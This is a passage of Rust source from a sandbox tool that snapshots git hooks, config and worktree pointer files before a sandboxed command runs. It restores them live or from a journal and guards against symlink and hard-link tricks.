//! Guarding the git files that make the *host's* git execute code, where the backend cannot
//! make them read-only (the Landlock backend: Landlock grants whole directory hierarchies, so
//! files inside a writable directory cannot be kept read-only). The namespace backends bind
//! them read-only instead ([`crate::git::protect`]); the guard runs there too, as a check.
//!
//! Guarded: the worktree's `.git` (a linked worktree's pointer file; a main worktree's `.git`
//! directory, which must stay the same directory), the gitdir's `commondir`, `gitdir` and
//! `config.worktree`, a main worktree's `config`, `hooks/`, `info/`, its linked worktrees'
//! `commondir`/`gitdir`/`config.worktree`, submodules' `config` and `hooks/`, and an in-tree
//! `core.hooksPath` directory.
//!
//! How the guard holds:
//! - **snapshot** before the command starts; the snapshot is also written to a **journal**
//!   outside the writable set ([`journal_dir`]), so a supervisor killed with SIGKILL leaves
//!   what is needed: the next run on the worktree, or `shofer-sandbox --repair WT`, finishes
//!   the restore before anything else;
//! - **restore at once**: on the Landlock backend a watcher thread (inotify(7) on every guarded
//!   directory) puts back a guarded entry as soon as it changes, not only at exit — this leaves
//!   a window of the inotify latency plus one restore (typically well under a millisecond)
//!   during which a host git could read the command's file; a write through a shared memory
//!   mapping raises no event, so a pass also runs every 200 ms;
//! - restores write to an **unpredictable** temporary name (getrandom(2)) created with
//!   `O_EXCL | O_NOFOLLOW`, then rename it over the entry; a directory made read-only by the
//!   command (`chmod 0555`) gets its write bit back first; when writing fails (a full disk)
//!   the command's entry is removed as a last resort — no control file is safer than the
//!   command's;
//! - a restore that fails is **loud**: stderr, the run's closing report record, and exit
//!   status 125 ([`crate::run`]).

use crate::git::objects::{hex, unhex};
use std::ffi::{OsStr, OsString};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::{json, Value};

use crate::git::layout::GitLayout;
use crate::git::nested::{Checked, NestedScan};
use crate::paths::{self, Kind};

/// Largest guarded file (bytes); a larger one is left unguarded and reported.
const MAX_FILE: usize = 1 << 20;
/// Most entries of a guarded directory (`hooks/`).
const MAX_ENTRIES: usize = 512;

#[derive(Clone, Debug, PartialEq, Eq)]
enum State {
    Absent,
    File {
        data: Vec<u8>,
        mode: u32,
    },
    Dir(Vec<(String, Vec<u8>, u32)>),
    /// Present but not something we can restore (too big, a FIFO, a symlink…).
    Unguardable(String),
}

struct Guarded {
    dir: OwnedFd,
    dir_path: PathBuf,
    /// The directory's permission bits at the snapshot (`None`: unknown, from a journal).
    dir_mode: Option<u32>,
    name: String,
    original: State,
    /// A guarded directory's own permission bits at the snapshot (`None`: not a directory,
    /// or from a journal): a `chmod 777 .git/hooks` would let another user plant a hook.
    own_mode: Option<u32>,
}

/// A main worktree's `.git` directory: it must remain the directory it was.
struct DotGitDir {
    worktree: OwnedFd,
    worktree_path: PathBuf,
    original: OwnedFd,
    identity: (u64, u64),
}

/// The snapshot taken before a run.
pub struct GitGuard {
    entries: Vec<Guarded>,
    dot_git: Option<DotGitDir>,
    journal: Option<PathBuf>,
    /// The gitlinked repositories check ([`crate::git::nested`]), under its own lock: a slow
    /// check (the command can make many repositories) never holds up a restore.
    nested: Option<Arc<Mutex<NestedScan>>>,
    /// The index the nested check reads (watched for changes).
    index: Option<PathBuf>,
    /// A linked worktree's common dir and the names in it before the run: git's transient
    /// names the command left there ([`COMMON_TRANSIENT`]) are removed when it ends.
    common_names: Option<(OwnedFd, PathBuf, Vec<OsString>)>,
    /// Whether the command can add names to the common dir's top level (Landlock with the
    /// common dir beneath a writable root, bubblewrap with `--keep-caps`): then every name it
    /// adds there (`MERGE_HEAD` of the main worktree, `shallow`, …) is removed. Elsewhere only
    /// the transient ones are: a name that appears there is the host's own (a merge or rebase
    /// in progress in the main worktree), which removing them all once destroyed.
    common_top_writable: bool,
    /// What could not be guarded beyond [`Self::entries`] (a common dir that could not be
    /// listed, a control path whose name is not UTF-8), for [`Self::unguarded`].
    notes: Vec<String>,
}

/// Names git itself may add to the common dir from a linked worktree.
const COMMON_NEW_ALLOWED: [&str; 1] = ["packed-refs"];
/// Names git holds in the common dir while it rewrites `packed-refs` (its lock, the new
/// list) or the configuration (its lock, see `gate::packed_refs`): left alone while the
/// command runs, removed when it has ended (a killed git's leftover lock would make every
/// later ref deletion or configuration change fail).
const COMMON_TRANSIENT: [&str; 3] = ["packed-refs.lock", "packed-refs.new", "config.lock"];

/// The failure (no path, why) to report when a thread of the guard panicked (its lock is
/// poisoned): the check it owed did not run.
pub(crate) fn poisoned(what: &str) -> (PathBuf, String) {
    (
        PathBuf::new(),
        format!("{what} stopped (a thread panicked)"),
    )
}

/// What one restore pass did.
#[derive(Debug, Default)]
pub struct Restored {
    /// Paths put back.
    pub restored: Vec<PathBuf>,
    /// Nested repositories' configs moved aside ([`crate::git::nested`]).
    pub quarantined: Vec<crate::git::nested::Quarantined>,
    /// Paths that could not be put back (or moved aside), with why.
    pub failed: Vec<(PathBuf, String)>,
}

impl Restored {
    /// Adds `other`'s results to these.
    pub fn merge(&mut self, other: Restored) {
        self.restored.extend(other.restored);
        self.quarantined.extend(other.quarantined);
        self.failed.extend(other.failed);
    }
}

impl GitGuard {
    /// Snapshots the guarded files for `layout` of `worktree` (canonical), with the in-tree
    /// paths of `controls` (an in-tree `core.hooksPath`); `writable`: the writable set's
    /// roots, where nested repositories' configs are the command's ([`NestedScan`]). Never
    /// fails: what cannot be read is noted and reported by [`Self::unguarded`].
    pub fn snapshot(
        layout: &GitLayout,
        worktree: &Path,
        controls: &crate::git::protect::ControlSet,
        writable: &[PathBuf],
    ) -> GitGuard {
        let mut entries = Vec::new();
        let mut notes = Vec::new();
        // What could not be held open (descriptors used up): named with the notes.
        let unheld = std::cell::RefCell::new(Vec::new());
        let add = |entries: &mut Vec<Guarded>, dir_path: PathBuf, names: &[&str]| {
            let Ok(dir) = paths::open_nofollow(&dir_path) else {
                return;
            };
            let dir_mode = mode_of(&dir).ok();
            for &name in names {
                let original = read_state(&dir, name);
                let own_mode = matches!(original, State::Dir(_))
                    .then(|| open_dir(&dir, name).and_then(|d| mode_of(&d)).ok())
                    .flatten();
                let held = match dir.try_clone() {
                    Ok(held) => held,
                    Err(e) => {
                        unheld.borrow_mut().push(format!(
                            "{}/{name}: its directory cannot be held open: {e}",
                            dir_path.display()
                        ));
                        continue;
                    }
                };
                entries.push(Guarded {
                    dir: held,
                    dir_path: dir_path.clone(),
                    dir_mode,
                    name: name.to_string(),
                    original,
                    own_mode,
                });
            }
        };
        let per_worktree = ["commondir", "gitdir", "config.worktree"];
        let mut dot_git = None;
        match layout {
            GitLayout::Linked { gitdir, common } => {
                add(&mut entries, worktree.to_path_buf(), &[".git"]);
                add(&mut entries, gitdir.clone(), &per_worktree);
                // A common dir beneath a writable root (a repository under /tmp) is not
                // outside the writable set: guarded as a main worktree's `.git` is.
                if controls.common_beneath.is_some() {
                    add(
                        &mut entries,
                        common.clone(),
                        &["config", "hooks", "info", "HEAD"],
                    );
                    for sub in subdirs(&common.join("worktrees"))
                        .into_iter()
                        .filter(|s| s != gitdir)
                    {
                        add(&mut entries, sub, &per_worktree);
                    }
                    for sub in subdirs(&common.join("modules")) {
                        add(&mut entries, sub, &["config", "hooks"]);
                    }
                }
            }
            GitLayout::MainWorktree => {
                let dot = worktree.join(".git");
                add(
                    &mut entries,
                    dot.clone(),
                    &["config", "config.worktree", "commondir", "hooks", "info"],
                );
                for sub in subdirs(&dot.join("worktrees")) {
                    add(&mut entries, sub, &per_worktree);
                }
                for sub in subdirs(&dot.join("modules")) {
                    add(&mut entries, sub, &["config", "hooks"]);
                }
                if let (Ok(wt), Ok(orig)) =
                    (paths::open_nofollow(worktree), paths::open_nofollow(&dot))
                {
                    if let Ok(identity) = paths::identity(&orig) {
                        dot_git = Some(DotGitDir {
                            worktree: wt,
                            worktree_path: worktree.to_path_buf(),
                            original: orig,
                            identity,
                        });
                    }
                }
            }
            GitLayout::None | GitLayout::Rejected(_) => {}
        }
        // Grouped by directory: each opened once (the agents' and editors' files at the
        // worktree's top are eight names in one directory).
        let mut by_dir: Vec<(&Path, Vec<&str>)> = Vec::new();
        for c in &controls.read_only {
            let known = entries.iter().any(|g| g.dir_path.join(&g.name) == c.path);
            if !known && c.path.starts_with(worktree) && !c.path.starts_with(worktree.join(".git"))
            {
                match (c.path.parent(), c.path.file_name().map(|n| n.to_str())) {
                    (Some(parent), Some(Some(name))) => {
                        match by_dir.iter_mut().find(|(d, _)| *d == parent) {
                            Some((_, names)) => names.push(name),
                            None => by_dir.push((parent, vec![name])),
                        }
                    }
                    // Guarded names are text (the journal holds them as such).
                    _ => notes.push(format!(
                        "{}: a name that is not UTF-8 is not guarded",
                        c.path.display()
                    )),
                }
            }
        }
        for (dir, names) in by_dir {
            add(&mut entries, dir.to_path_buf(), &names);
        }
        let nested = match layout {
            GitLayout::Linked { gitdir, common } => Some(NestedScan::new(
                worktree,
                gitdir,
                crate::git::protect::uses_sha256(common),
                writable,
            )),
            GitLayout::MainWorktree => {
                let dot = worktree.join(".git");
                Some(NestedScan::new(
                    worktree,
                    &dot,
                    crate::git::protect::uses_sha256(&dot),
                    writable,
                ))
            }
            GitLayout::None | GitLayout::Rejected(_) => None,
        };
        let index = nested.as_ref().map(|n| n.index.clone());
        // Unlisted, the names the command adds there could not be told: reported, not skipped.
        let common_names = controls.common.as_ref().and_then(|l| {
            let listed = paths::open_nofollow(&l.common)
                .and_then(|fd| paths::list(&fd).map(|names| (fd, names)));
            match listed {
                Ok((fd, names)) => Some((fd, l.common.clone(), names)),
                Err(e) => {
                    notes.push(format!(
                        "{}: cannot be listed, names the command adds there are not removed: {e}",
                        l.common.display()
                    ));
                    None
                }
            }
        });
        for why in unheld.into_inner() {
            eprintln!("shofer-sandbox: warning: a git control file is not guarded: {why}");
            notes.push(why);
        }
        GitGuard {
            entries,
            dot_git,
            journal: None,
            nested: nested.map(|n| Arc::new(Mutex::new(n))),
            index,
            common_names,
            common_top_writable: true,
            notes,
        }
    }

    /// Says whether the command can add names to the common dir's top level
    /// ([`Self::common_top_writable`]; true unless said otherwise).
    pub fn set_common_top_writable(&mut self, writable: bool) {
        self.common_top_writable = writable;
    }

    /// Quarantines program-naming configs of gitlinked repositories inside the worktree
    /// ([`crate::git::nested`]).
    /// Also returns how many gitlinks it followed.
    pub fn check_nested(&self) -> (Checked, usize) {
        match self.nested.as_ref().map(|n| n.lock()) {
            Some(Ok(mut scan)) => scan.check(),
            Some(Err(_)) => {
                let failed = vec![poisoned("the nested check")];
                (
                    Checked {
                        failed,
                        ..Checked::default()
                    },
                    0,
                )
            }
            None => (Checked::default(), 0),
        }
    }

    /// Guarded paths that could not be snapshotted, with why (for the report).
    pub fn unguarded(&self) -> Vec<String> {
        self.entries
            .iter()
            .filter_map(|g| match &g.original {
                State::Unguardable(why) => {
                    Some(format!("{}/{}: {why}", g.dir_path.display(), g.name))
                }
                _ => None,
            })
            .chain(self.notes.iter().cloned())
            .collect()
    }

    /// The guarded paths.
    pub fn paths(&self) -> Vec<PathBuf> {
        self.entries
            .iter()
            .map(|g| g.dir_path.join(&g.name))
            .collect()
    }

    /// The directories whose changes the watcher follows: each guarded entry's directory,
    /// each guarded directory itself, and the index's directory.
    fn watched(&self) -> Vec<PathBuf> {
        let mut dirs: Vec<PathBuf> = Vec::new();
        let mut push = |p: PathBuf| {
            if !dirs.contains(&p) {
                dirs.push(p)
            }
        };
        for g in &self.entries {
            push(g.dir_path.clone());
            if matches!(g.original, State::Dir(_)) {
                push(g.dir_path.join(&g.name));
            }
        }
        if let Some(parent) = self.index.as_ref().and_then(|i| i.parent()) {
            push(parent.to_path_buf());
        }
        dirs
    }

    /// The guarded regular files, watched themselves as well: a write through another link
    /// (a hard link made anywhere) or a new link reaches their inode, not their directory.
    fn watched_files(&self) -> Vec<PathBuf> {
        self.entries
            .iter()
            .filter(|g| matches!(g.original, State::File { .. }))
            .map(|g| g.dir_path.join(&g.name))
            .collect()
    }

    /// Whether a change of `name` in the watched directory `dir` can concern a guarded entry
    /// (and a live restore pass must run): the entry itself, anything inside a guarded
    /// directory, a main worktree's `.git`, or a name new to a linked worktree's common dir.
    /// Git's own traffic (`index.lock`, `HEAD`, `COMMIT_EDITMSG`, …) does not.
    fn guards(&self, dir: &Path, name: &[u8]) -> bool {
        let is = |n: &OsStr| n.as_bytes() == name;
        self.entries
            .iter()
            .any(|g| (g.dir_path == dir && is(g.name.as_ref())) || g.dir_path.join(&g.name) == dir)
            || self
                .dot_git
                .as_ref()
                .is_some_and(|d| d.worktree_path == dir && is(".git".as_ref()))
            || self
                .common_names
                .as_ref()
                .is_some_and(|(_, path, before)| path == dir && !before.iter().any(|n| is(n)))
    }

    /// Whether a change of `name` in `dir` is a change of the index or of a split index's
    /// shared index (the nested check reads them).
    fn is_index(&self, dir: &Path, name: &[u8]) -> bool {
        self.index.as_ref().is_some_and(|i| {
            i.parent() == Some(dir)
                && (i.file_name().map(|f| f.as_encoded_bytes()) == Some(name)
                    || name.starts_with(b"sharedindex."))
        })
    }

    /// Puts back every guarded entry that changed (first the main worktree's `.git`
    /// directory itself, if it was renamed away), once the command has ended.
    pub fn restore(&self) -> Restored {
        self.restore_pass(false)
    }

    /// [`Self::restore`] while the command runs (the watcher): git's transient names in the
    /// common dir stay.
    pub fn restore_live(&self) -> Restored {
        self.restore_pass(true)
    }

    /// Whether a guarded name was absent before the run.
    pub fn has_absent(&self) -> bool {
        self.entries
            .iter()
            .any(|g| matches!(g.original, State::Absent))
    }

    /// While the command runs on a namespace backend, where every guarded entry that existed
    /// is a read-only bind: removes what the command made at a name that was absent (an
    /// agent's `.claude/` where the worktree had none, [`crate::git::protect::HOST_TOOL_FILES`]):
    /// no bind covers an absent name (a placeholder there broke `git stash -u` and `git clean
    /// -d`, which cannot remove a mount point).
    pub fn restore_absent(&self) -> Restored {
        let mut out = Restored::default();
        for g in self
            .entries
            .iter()
            .filter(|g| matches!(g.original, State::Absent))
        {
            if read_state(&g.dir, &g.name) == State::Absent {
                continue;
            }
            let path = g.dir_path.join(&g.name);
            // The command owns the directory (the worktree) and can take its write bit away
            // to keep the name in place: the mode is put back and the removal tried again, up
            // to 64 times an event (a command that keeps taking it away keeps a window open,
            // as one that keeps writing does).
            let mut result = remove(&g.dir, &g.name);
            for _ in 0..64 {
                let denied = result
                    .as_ref()
                    .is_err_and(|e| matches!(e.raw_os_error(), Some(libc::EACCES | libc::EPERM)));
                if !denied {
                    break;
                }
                let want = g.dir_mode.unwrap_or(0o755) | 0o700;
                if paths::chmod_pinned(&g.dir, want).is_ok() {
                    out.restored.push(g.dir_path.clone());
                }
                result = remove(&g.dir, &g.name);
            }
            match result {
                Ok(()) => out.restored.push(path),
                Err(e) => out.failed.push((path, e.to_string())),
            }
        }
        out
    }

    fn restore_pass(&self, live: bool) -> Restored {
        let mut out = Restored::default();
        if let Some((fd, path, before)) = &self.common_names {
            // Names are bytes: one that is not UTF-8 is removed like any other new name.
            let names = paths::list(fd).unwrap_or_else(|e| {
                out.failed.push((
                    path.clone(),
                    format!("cannot be listed, the names the command added stay: {e}"),
                ));
                Vec::new()
            });
            for name in names {
                let text = name.to_str();
                let transient = text.is_some_and(|n| COMMON_TRANSIENT.contains(&n));
                if before.contains(&name)
                    || is_aside(&name)
                    || text.is_some_and(|n| COMMON_NEW_ALLOWED.contains(&n))
                    || (live && transient)
                    || !(self.common_top_writable || transient)
                {
                    continue;
                }
                match remove(fd, &name) {
                    Ok(()) => out.restored.push(path.join(&name)),
                    Err(e) => out.failed.push((path.join(&name), e.to_string())),
                }
            }
        }
        if let Some(d) = &self.dot_git {
            if let Err(e) = d.restore() {
                out.failed
                    .push((d.worktree_path.join(".git"), e.to_string()));
            }
        }
        for g in &self.entries {
            // A directory made read-only (or opened up) by the command gets its mode back.
            if let Some(want) = g.dir_mode {
                put_mode_back(&g.dir, &g.dir_path, want, &mut out);
            }
            if matches!(g.original, State::Unguardable(_)) {
                continue;
            }
            // A guarded directory gets its own mode back (the namespace backends bind it
            // read-only: no chmod reaches it there).
            if let Some(want) = g.own_mode {
                if let Ok(sub) = open_dir(&g.dir, &g.name) {
                    put_mode_back(&sub, &g.dir_path.join(&g.name), want, &mut out);
                }
            }
            let now = match try_read_state(&g.dir, &g.name) {
                Ok(now) => now,
                // Out of descriptors, nothing can be told about it: left as it is (putting
                // back over what cannot be read would remove the user's version), and named.
                Err(e) if matches!(e.raw_os_error(), Some(libc::EMFILE | libc::ENFILE)) => {
                    out.failed.push((
                        g.dir_path.join(&g.name),
                        format!("could not be checked: {e}"),
                    ));
                    continue;
                }
                Err(e) => State::Unguardable(e.to_string()),
            };
            // A second link to a guarded file (or to a file of a guarded directory) lets the
            // command change it through another name: it is written afresh (a new inode),
            // which cuts the link.
            let linked = match now {
                State::File { .. } => links(&g.dir, &g.name) > 1,
                // A directory that cannot be listed counts as linked: it is put back (and a
                // failure to do so is reported).
                State::Dir(_) => open_dir(&g.dir, &g.name).is_ok_and(|sub| {
                    paths::list(&sub).map_or(true, |names| {
                        names.iter().any(|n| !is_aside(n) && links(&sub, n) > 1)
                    })
                }),
                _ => false,
            };
            if now == g.original && !linked {
                continue;
            }
            let path = g.dir_path.join(&g.name);
            match put_back(&g.dir, &g.name, &g.original, &now) {
                Ok(()) => out.restored.push(path),
                Err(e) => {
                    // Last resort (a full disk): the command's entry must not stay.
                    let last = if matches!(g.original, State::Absent) {
                        String::new()
                    } else {
                        // A file's space is freed now: the next pass needs it. (Only a
                        // file: unlinkat never descends into what the command put there.)
                        match remove_aside(&g.dir, &g.name).map(|aside| {
                            if let Some(a) = aside {
                                let _ = paths::unlink_at(&g.dir, std::ffi::OsStr::new(&a), 0);
                            }
                        }) {
                            Ok(()) => " (the command's version was removed instead)".into(),
                            Err(e2) => {
                                format!(" (removing the command's version failed too: {e2})")
                            }
                        }
                    };
                    out.failed.push((path, format!("{e}{last}")))
                }
            }
        }
        out
    }

    /// Writes the snapshot to a journal file in `dir` (outside the writable set), so a
    /// supervisor killed before it restores leaves what the next run needs.
    /// With `only_absent`, the names that were absent only (the namespace backends, where
    /// every other guarded entry is a read-only bind: [`Self::restore_absent`]).
    ///
    /// # Errors
    /// Creating or writing the journal.
    pub fn write_journal(
        &mut self,
        dir: &Path,
        worktree: &Path,
        only_absent: bool,
    ) -> io::Result<()> {
        // The journal is JSON text: a path that is not UTF-8 (a gitdir the command named so in
        // an earlier run) cannot be written there — an error, where serializing it panicked.
        let paths = std::iter::once(worktree).chain(self.entries.iter().map(|g| &*g.dir_path));
        if let Some(p) = paths.into_iter().find(|p| p.to_str().is_none()) {
            return Err(io::Error::other(format!(
                "{} is not a UTF-8 path, which the journal cannot hold",
                p.display()
            )));
        }
        let entries: Vec<Value> = self
            .entries
            .iter()
            .filter(|g| !matches!(g.original, State::Unguardable(_)))
            .filter(|g| !only_absent || matches!(g.original, State::Absent))
            .map(|g| json!({"dir": g.dir_path, "name": g.name, "state": state_json(&g.original)}))
            .collect();
        let pid = rustix::process::getpid().as_raw_nonzero().get();
        let record = json!({
            "worktree": worktree,
            "pid": pid,
            "start": start_time(pid),
            "entries": entries,
        });
        let record = record.to_string();
        if record.len() as u64 > MAX_JOURNAL {
            // A journal the next run would not read is not written.
            return Err(io::Error::other(format!(
                "the snapshot takes {} bytes, more than a journal holds ({MAX_JOURNAL})",
                record.len()
            )));
        }
        let path = dir.join(format!("{}-{pid}.json", worktree_key(worktree)));
        let tmp = dir.join(format!(".{}-{pid}.tmp", worktree_key(worktree)));
        let mut f = std::fs::OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .custom_flags_nofollow()
            .open(&tmp)?;
        // No fsync: the journal guards against a killed supervisor, whose writes the page
        // cache keeps; an fsync costs tens of milliseconds on a busy disk at every start.
        f.write_all(record.as_bytes())?;
        std::fs::rename(&tmp, &path)?;
        self.journal = Some(path);
        Ok(())
    }

    /// Removes the journal after a complete restore.
    pub fn clear_journal(&self) {
        if let Some(j) = &self.journal {
            let _ = std::fs::remove_file(j);
        }
    }
}

/// `O_NOFOLLOW` on [`std::fs::OpenOptions`].
trait NoFollow {
    fn custom_flags_nofollow(&mut self) -> &mut Self;
}

impl NoFollow for std::fs::OpenOptions {
    fn custom_flags_nofollow(&mut self) -> &mut Self {
        std::os::unix::fs::OpenOptionsExt::custom_flags(self, libc::O_NOFOLLOW);
        std::os::unix::fs::OpenOptionsExt::mode(self, 0o600);
        self
    }
}

impl DotGitDir {
    fn restore(&self) -> io::Result<()> {
        let here = paths::openat_path(&self.worktree, Path::new(".git"));
        if let Ok(fd) = &here {
            if paths::identity(fd)? == self.identity {
                return Ok(());
            }
        }
        // Where the original is now, reached through descriptors only: its parent is its own
        // `..` and its name must still hold it. A path would be resolved again by the rename,
        // and the command can swap any directory on the way for a symlink (an audit moved a
        // root-owned host file into the worktree as `.git` that way).
        let cur = std::fs::read_link(format!("/proc/self/fd/{}", self.original.as_raw_fd()))?;
        let gone = || {
            io::Error::other(format!(
                "the original .git directory is now at {} and is not put back from there",
                cur.display()
            ))
        };
        if !cur.starts_with(&self.worktree_path) || cur.to_string_lossy().ends_with(" (deleted)") {
            return Err(gone());
        }
        let name = cur.file_name().ok_or_else(gone)?;
        let parent = paths::openat_dir_path(&self.original, Path::new(".."))?;
        let found = paths::stat_at(&parent, &name.to_string_lossy())?;
        if (found.st_dev, found.st_ino) != self.identity {
            return Err(gone());
        }
        if here.is_ok() {
            let aside = format!(
                ".git.shofer-moved-{}",
                shofer_sys::statedir::random_suffix()
            );
            rename_in(&self.worktree, ".git", &aside)?;
        }
        paths::rename_noreplace_between(&parent, name, &self.worktree, ".git".as_ref())?;
        // Swapped between the look and the rename: what came is set aside, not kept as `.git`.
        let now = paths::openat_path(&self.worktree, Path::new(".git"))?;
        if paths::identity(&now)? != self.identity {
            let aside = format!(
                ".git.shofer-moved-{}",
                shofer_sys::statedir::random_suffix()
            );
            rename_in(&self.worktree, ".git", &aside)?;
            return Err(gone());
        }
        Ok(())
    }
}

fn rename_in(dir: &OwnedFd, from: &str, to: &str) -> io::Result<()> {
    Ok(rustix::fs::renameat(dir, from, dir, to)?)
}

fn subdirs(dir: &Path) -> Vec<PathBuf> {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    rd.flatten()
        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
        .map(|e| e.path())
        .take(MAX_ENTRIES)
        .collect()
}

/// Puts the mode `want` back on the directory `dir` (at `path`) when it differs, and says so
/// in `out`.
fn put_mode_back(dir: &OwnedFd, path: &Path, want: u32, out: &mut Restored) {
    if mode_of(dir).is_ok_and(|m| m != want) {
        match paths::chmod_pinned(dir, want) {
            Ok(()) => out.restored.push(path.to_path_buf()),
            Err(e) => out.failed.push((path.to_path_buf(), format!("chmod: {e}"))),
        }
    }
}

/// The permission bits of a descriptor's object.
fn mode_of(fd: &OwnedFd) -> io::Result<u32> {
    paths::fstat(fd).map(|st| st.st_mode & 0o7777)
}

/// A stable key for a worktree path (FNV-1a, 64 bits), for journal file names.
fn worktree_key(worktree: &Path) -> String {
    use std::os::unix::ffi::OsStrExt;
    let mut h: u64 = 0xcbf29ce484222325;
    for b in worktree.as_os_str().as_bytes() {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    format!("{h:016x}")
}

/// The start time of `pid` (clock ticks since boot), to tell a live owner of a journal from a
/// recycled PID.
fn start_time(pid: libc::pid_t) -> Option<u64> {
    shofer_sys::proc::read(pid).map(|p| p.start)
}

fn state_json(s: &State) -> Value {
    match s {
        State::Absent => json!({"absent": true}),
        State::File { data, mode } => json!({"file": hex(data), "mode": mode}),
        State::Dir(entries) => json!({"dir": entries
            .iter()
            .map(|(n, d, m)| json!({"name": n, "file": hex(d), "mode": m}))
            .collect::<Vec<_>>()}),
        State::Unguardable(why) => json!({"unguardable": why}),
    }
}

/// A state read back from a journal: `None` for anything [`state_json`] does not write —
/// a name that is not one component, a mode beyond the permission bits (a set-id bit), more
/// entries than a guarded directory holds.
fn state_from_json(v: &Value) -> Option<State> {
    let mode = |v: &Value| v.as_u64().filter(|m| *m & !0o777 == 0).map(|m| m as u32);
    if v["absent"] == json!(true) {
        return Some(State::Absent);
    }
    if let Some(d) = v["file"].as_str() {
        return Some(State::File {
            data: unhex(d)?,
            mode: mode(&v["mode"])?,
        });
    }
    let entries = v["dir"].as_array().filter(|e| e.len() <= MAX_ENTRIES)?;
    let mut out = Vec::new();
    for e in entries {
        out.push((
            e["name"].as_str().filter(|n| one_component(n))?.to_string(),
            unhex(e["file"].as_str()?)?,
            mode(&e["mode"])?,
        ));
    }
    Some(State::Dir(out))
}

/// A name of one path component (not empty, `.`, `..`, nor holding `/` or NUL).
fn one_component(name: &str) -> bool {
    !name.is_empty() && name != "." && name != ".." && !name.contains(['/', '\0'])
}

/// Largest journal written or read (64 MiB): guarded files are at most [`MAX_FILE`] each.
const MAX_JOURNAL: u64 = 64 << 20;

/// The directories a journal of one worktree may restore into, decided on the opened
/// directory's identity (device, inode), never on a path the journal holds: the worktree,
/// its gitdir and its common dir, and what lies beneath them. The gitdir and common dir are
/// the ones the worktree's `.git` leads to now and the ones the journal's own copy of that
/// pointer leads to, each validated as a run validates its layout (a `worktrees` parent, a
/// back-link naming this worktree): a killed run may have left `.git` changed, which is what
/// the journal puts back, and a planted journal cannot claim another repository's.
struct JournalScope {
    roots: Vec<(u64, u64)>,
}

impl JournalScope {
    fn of(worktree: &Path, claimed_pointer: Option<&[u8]>) -> JournalScope {
        let mut roots = Vec::new();
        let Ok(wt) = paths::open_nofollow(worktree) else {
            return JournalScope { roots };
        };
        roots.extend(paths::identity(&wt));
        let mut dirs = Vec::new();
        if let GitLayout::Linked { gitdir, common } = crate::git::layout::discover(worktree, &wt) {
            dirs.extend([gitdir, common]);
        }
        if let Some(Ok((gitdir, common))) =
            claimed_pointer.map(|raw| crate::git::layout::linked_from(worktree, raw))
        {
            dirs.extend([gitdir, common]);
        }
        for d in dirs {
            if let Ok(fd) = paths::open_nofollow(&d) {
                roots.extend(paths::identity(&fd));
            }
        }
        JournalScope { roots }
    }

    /// Whether the directory `dir` is one of the roots or beneath one (its `..` chain, at most
    /// 64 levels, meets one).
    fn holds(&self, dir: &OwnedFd) -> bool {
        let Ok(mut cur) = dir.try_clone() else {
            return false;
        };
        for _ in 0..64 {
            let Ok(id) = paths::identity(&cur) else {
                return false;
            };
            if self.roots.contains(&id) {
                return true;
            }
            let Ok(up) = paths::openat_dir_path(&cur, Path::new("..")) else {
                return false;
            };
            if paths::identity(&up).ok() == Some(id) {
                return false; // the root directory
            }
            cur = up;
        }
        false
    }
}

/// Where journals live: `$XDG_STATE_HOME/shofer/git-guard` (or
/// `~/.local/state/shofer/git-guard`); created with
/// mode 0700 and checked to be a real directory owned by us. `None` if none of them is usable
/// or every candidate lies inside `writable` (the command could then edit the journal).
pub fn journal_dir(writable: &shofer_sys::statedir::Writable) -> Option<PathBuf> {
    state_dir(JOURNAL_LEAF, writable)
}

/// The state directory of journals (`git-guard`).
pub const JOURNAL_LEAF: &str = "git-guard";

/// The supervisor's own directory `leaf` for state that must outlive a killed run and that
/// no sandboxed command may write: `$XDG_STATE_HOME/shofer/<leaf>` (or
/// `~/.local/state/shofer/<leaf>`), if it can be made (mode 0700), is a real directory owned
/// by us that neither group nor others can write, and neither lies inside a path of
/// `writable` nor holds one. `None` otherwise. Never a shared temporary directory such as
/// `/var/tmp`: another run given it as its temporary directory (`TMPDIR=/var/tmp`) could
/// plant entries there for a later run to trust.
pub fn state_dir(leaf: &str, writable: &shofer_sys::statedir::Writable) -> Option<PathBuf> {
    // The same check as every read of it ([`checked_state_dirs`]).
    state_candidates(leaf)
        .iter()
        .find_map(|c| shofer_sys::statedir::create_in(c, writable).ok())
        .map(|d| d.path)
}

/// The existing state directories `leaf` that pass the check [`state_dir`] makes (for
/// reading what earlier runs left there: [`shofer_sys::statedir::check`]); one that exists
/// and fails it is named on stderr, once per call, and not read.
pub fn checked_state_dirs(
    leaf: &str,
    writable: &shofer_sys::statedir::Writable,
) -> Vec<shofer_sys::statedir::StateDir> {
    state_candidates(leaf)
        .iter()
        .filter(|c| std::fs::symlink_metadata(c).is_ok())
        .filter_map(|c| match shofer_sys::statedir::check_in(c, writable) {
            Ok(d) => Some(d),
            Err(e) => {
                eprintln!(
                    "shofer-sandbox: warning: not reading what earlier runs left in {}: {e} (a state directory must be a directory of this user's that only it can write, outside every path a sandboxed command may write)",
                    c.display()
                );
                None
            }
        })
        .collect()
}

/// The places [`state_dir`] may choose for `leaf`, in order of preference.
pub fn state_candidates(leaf: &str) -> Vec<PathBuf> {
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let state = std::env::var_os("XDG_STATE_HOME")
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .or_else(|| home.map(|h| h.join(".local/state")));
    state
        .filter(|s| s.is_absolute())
        .map(|s| s.join("shofer").join(leaf))
        .into_iter()
        .collect()
}

/// Finishes the restores that killed runs on `worktree` left in the checked state directory
/// `dir`'s journals (their supervisor no longer alive). Returns what was done.
///
/// Nothing read back is trusted because a supervisor wrote it (issue 29, F8): each journal
/// is read relative to `dir` as a regular file of this user's with one link, not writable by
/// group or others, at most [`MAX_JOURNAL`] bytes, opened without following a symlink and
/// never blocking ([`shofer_sys::statedir::read_file`]); every entry must name a directory,
/// opened without a symlink on its path, within this worktree's [`JournalScope`], and one
/// component of it. A journal that fails any of this is ignored whole, with one line on
/// stderr naming it: never acted on, and no reason to refuse the run.
pub fn repair(dir: &shofer_sys::statedir::StateDir, worktree: &Path) -> Restored {
    let mut out = Restored::default();
    let prefix = format!("{}-", worktree_key(worktree));
